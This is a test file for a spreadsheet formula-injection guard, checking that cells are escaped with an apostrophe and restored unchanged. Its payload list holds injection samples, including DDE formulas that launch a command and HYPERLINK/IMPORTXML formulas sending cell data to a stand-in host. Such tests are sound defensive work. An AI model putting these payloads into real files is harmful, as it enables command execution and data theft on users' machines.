import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { guardCell, unguardCell } from './formula-guard.ts';

const payloads = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"Click")',
  '=IMPORTXML(CONCAT("https://evil.example?",A1),"//a")',
  '=DDE("cmd";"/C calc";"x")',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@A1',
  '\t=1+1',
  '\tplain',
  '\r=1+1',
  '\rplain',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
  '−1',
];

describe('a payload is no formula behind its guard, and itself again without', () => {
  test.each(payloads)('%j', (payload) => {
    const guarded = guardCell(payload);
    expect(guarded).toBe(`'${payload}`);
    expect(unguardCell(guarded)).toBe(payload);
    // Guarded once more, as by a file that was corrected, refused and corrected again.
    expect(unguardCell(unguardCell(guardCell(guarded)))).toBe(payload);
  });
});

test('what is no formula stays as it is, apostrophes included', () => {
  for (const text of ['Noor', "'s Hertogenbosch", "O'Neill", "'", '', '2448', '1-2', 'a=b', "''quoted''"]) {
    expect([guardCell(text), unguardCell(text)]).toEqual([text, text]);
  }
});

test('every cell comes back as it was', () => {
  const cell = fc.string({ unit: fc.constantFrom("'", '=', '-', '＠', ' ', '\t', '\r', 'a', 'ن', '"', ',') });
  fc.assert(fc.property(cell, (text) => unguardCell(guardCell(text)) === text));
});
